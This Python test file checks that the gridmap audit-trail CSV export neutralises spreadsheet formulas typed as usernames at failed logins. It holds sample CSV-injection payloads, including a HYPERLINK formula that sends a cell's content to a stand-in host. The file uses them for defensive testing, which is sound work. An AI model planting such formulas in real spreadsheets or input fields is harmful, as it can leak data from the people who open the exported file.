"""The audit trail as CSV is opened in Excel by admins: nothing an attacker typed may run there."""

from __future__ import annotations

import csv
import io

import httpx
from servers import headers, start_server

from gridmap.config import Settings
from gridmap.io.write import FORMULA_STARTS
from gridmap.store.db import make_engine, transaction
from gridmap.store.features import log_change
from gridmap.store.schema import upgrade

HYPERLINK = '=HYPERLINK("http://x"&A2,"点击")'
TYPED = (HYPERLINK, "@SUM(1+1)", "+1", "-1", "\t=1+1")


def test_failed_logins_with_formulas_as_names_land_inert_in_the_audit_csv(tmp_path):
    url = f"sqlite:///{tmp_path / 'gridmap.db'}"
    engine = make_engine(Settings(database_url=url))
    upgrade(engine)
    with transaction(engine) as conn:  # what a failed login leaves: the name typed as the actor
        for name in TYPED:
            log_change(conn, name, "login_failed", None, {"tries": 1})
    engine.dispose()
    proc, base = start_server(url)
    try:
        response = httpx.get(base + "/api/audit.csv", headers=headers(base), timeout=30)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    actors = [row[2] for row in rows[1:] if row[3] == "login_failed"]
    assert sorted(actors) == sorted("'" + name for name in TYPED)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert rows[1][0].isdigit()  # ids stay numbers
